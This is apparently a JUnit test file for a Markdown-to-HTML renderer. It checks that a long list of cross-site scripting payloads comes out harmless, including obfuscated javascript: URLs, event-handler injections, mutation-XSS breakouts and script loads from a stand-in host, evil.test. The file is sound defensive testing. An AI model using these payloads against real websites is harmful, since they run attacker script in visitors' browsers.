package io.zhibu.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Attempts to get a script, or something that fetches from elsewhere, onto a page. */
class SafetyTest {
    private static final String ACTIVE =
            "script,style,iframe,frame,object,embed,applet,base,meta,link,form,button,svg,math,template,video,audio,source,textarea,select,noscript,portal,marquee,xmp,plaintext,title";

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingThatRunsReachesThePage(String markdown) {
        assertHarmless(Reader.chinese().html(markdown));
        assertHarmless(Reader.chinese().html("> - 前" + markdown + "后\n"));
        assertHarmless(Reader.chinese().html("|a|\n|-|\n|" + markdown.replace("\n", " ") + "|\n"));
    }

    @ParameterizedTest
    @MethodSource("targets")
    void noTargetRunsInThePlainProfileEither(String target) {
        assertHarmless(new Reader(Profile.PLAIN)
                .html("[a](<" + target + ">) ![a](<" + target + ">)\n\n[b]\n\n[b]: <" + target + ">"));
    }

    @Test
    void whatIsHarmlessStays() {
        String kept = "<p>甲<sub>乙</sub><kbd>丙</kbd><ruby>丁<rt>ding</rt></ruby><a href=\"b.md#c\" title=\"t\">戊</a>"
                + "<img src=\"图/己.png\" alt=\"己\" width=\"10\"></p>";

        assertThat(Reader.chinese().html(kept)).isEqualTo(kept.replace("图/己", "%E5%9B%BE/%E5%B7%B1") + "\n");
        assertThat(Reader.chinese().rules(kept)).isEmpty();
    }

    @Test
    void aColonMakesNoScheme() {
        assertThat(Reader.chinese().html("[甲](第一章:总则.md) [乙](mailto:a@b.cn) [丙](irc:d)"))
                .contains("<a href=\"%E7%AC%AC", ":%E6%80%BB", "<a href=\"mailto:a@b.cn\"", "<a>丙</a>");
    }

    @Test
    void ourOwnHtmlPassesTheList() {
        String all =
                "# 一\n\n二[^a] `c` **d** ~~e~~ [f](g.md \"h\") ![i](j.png)  \n换行\n\n- [x] k\n- [ ] l\n\n3. m\n\n|n|\n|:-:|\n|o|\n\n"
                        + "!!! note\n    p\n\n> q\n\n```java\nr\n```\n\n---\n\n[^a]: s\n";
        String html = Reader.chinese().html(all);

        assertThat(Jsoup.parseBodyFragment(Cleaning.cleaned(html)).body().html())
                .isEqualTo(Jsoup.parseBodyFragment(html.replace("disabled=\"\"", "disabled"))
                        .body()
                        .html());
    }

    @Test
    void aTagWithoutItsOtherHalfIsShownAsText() {
        assertThat(Reader.chinese().html("<div>\n\n一\n")).isEqualTo("&lt;div&gt;\n<p>一</p>\n");
        assertThat(Reader.chinese().html("一</div></section></body>\n"))
                .isEqualTo("<p>一&lt;/div&gt;&lt;/section&gt;&lt;/body&gt;</p>\n");
    }

    private static void assertHarmless(String html) {
        Document page = Jsoup.parseBodyFragment(html);
        assertThat(page.select(ACTIVE)).as(html).isEmpty();
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as(html)
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcdoc", "srcset", "formaction", "action", "background", "xlink:href");
                if (name.equals("href") || name.equals("src") || name.equals("cite")) {
                    String seen = attribute
                            .getValue()
                            .replaceAll("[\\p{Cntrl}\\s\\p{Cf}]", "")
                            .toLowerCase(Locale.ROOT);
                    assertThat(seen)
                            .as(html)
                            .doesNotStartWith("javascript:")
                            .doesNotStartWith("vbscript:")
                            .doesNotStartWith("data:");
                }
            }
        }
    }

    static Stream<String> targets() {
        return Stream.of(
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                "javascript&colon;alert(1)",
                "javascript&#58;alert(1)",
                "javascript&#x3a;alert(1)",
                "&#106;avascript:alert(1)",
                "&#x6A;&#x61;vascript:alert(1)",
                "&#0000106avascript:alert(1)",
                "java&Tab;script:alert(1)",
                "java&NewLine;script:alert(1)",
                "java&#9;script:alert(1)",
                "java&#x0A;script:alert(1)",
                "java&#13;script:alert(1)",
                " javascript:alert(1)",
                "&#1;javascript:alert(1)",
                "&#x1F;javascript:alert(1)",
                "\u0001javascript:alert(1)",
                "java\u0000script:alert(1)",
                "java\tscript:alert(1)",
                "java\u200Bscript:alert(1)",
                "\uFEFFjavascript:alert(1)",
                "\u00A0javascript:alert(1)",
                "javascript\\:alert(1)",
                "j\\avascript\\:alert(1)",
                "vbscript:msgbox(1)",
                "VBScript:msgbox(1)",
                "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
                "data:text/html;base64,PHNjcmlwdD4=",
                "DATA:image/svg+xml,%3Csvg onload=alert(1)%3E",
                "d&#97;ta:text/html,x");
    }

    static Stream<String> payloads() {
        Stream<String> links = targets()
                .flatMap(target -> Stream.of(
                        "[a](<" + target + ">)",
                        "<a href=\"" + target + "\">a</a>",
                        "<img src='" + target + "'>",
                        "[a]\n\n[a]: <" + target + ">"));
        Stream<String> raw = Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.test/a.js></sCrIpT>",
                "<script\n>alert(1)</script\n>",
                "<script/x>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=x ONERROR=alert(1)>",
                "<img src=x onerror\n=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"x\"onerror=\"alert(1)\">",
                "<b onmouseover='alert(1)'>a</b>",
                "<details open ontoggle=alert(1)>a</details>",
                "<a href=# onclick=alert(1)>a</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">a</math>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<form action=javascript:alert(1)><input type=submit></form>",
                "<button formaction=javascript:alert(1)>a</button>",
                "<input type=image src=x onerror=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<base href=//evil.test/>",
                "<link rel=stylesheet href=//evil.test/a.css>",
                "<style>@import '//evil.test/a.css';</style>",
                "<p style=\"background:url(javascript:alert(1))\">a</p>",
                "<table background=javascript:alert(1)><tr><td>a</table>",
                "<video src=x onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<body onload=alert(1)>",
                "<html onmouseover=alert(1)>",
                "<marquee onstart=alert(1)>a</marquee>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--a--!><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?php echo '<img src=x onerror=alert(1)>' ?>",
                "<!DOCTYPE html [<!ENTITY a '<script>alert(1)</script>'>]>",
                "*<b*onclick=alert(1)>a</b>",
                "<b\ttitle='`' onclick=alert(1)>`a</b>",
                "<a title=\"**\" href=\"x\"onclick=alert(1)>**a</a>",
                "![a\" onerror=\"alert(1)](x)",
                "![a](x \"b\\\" onerror=\\\"alert(1)\")",
                "[a](x' onclick='alert(1))",
                "[a](<x\"onclick=\"alert(1)>)",
                "```\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
                "# a {#x\"onclick=alert(1)}",
                "!!! note \"<script>alert(1)</script>\"\n    a",
                "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: a",
                "&lt;script&gt;alert(1)&lt;/script&gt; <i>",
                "`<script>alert(1)</script>` <i>",
                "<javascript:alert(1)>",
                "<data:text/html,a>",
                "<img srcset=\"javascript:alert(1)\">",
                "<q cite=\"javascript:alert(1)\">a</q>",
                "<a title='<img src=x onerror=alert(1)>'>a</a>",
                "<table><b title=\"</table><img src=x onerror=alert(1)>\">a</b></table>",
                "<<b>script>alert(1)</<b>script>",
                "<b title=\"`\" onmouseover=alert(1)>`a</b>",
                "<pre>\n<!--</pre>\n--><img src=x onerror=alert(1)>",
                "<b title='\n\n'onclick=alert(1)>a</b>",
                "<img src=\"x\n\n\" onerror=alert(1)>",
                "<a name=\"x\" id='\" onclick=\"alert(1)'>a</a>",
                "<style><!--</style><img src=x onerror=alert(1)>-->",
                "<div\n\n<script>alert(1)</script>");
        return Stream.concat(links, raw);
    }
}
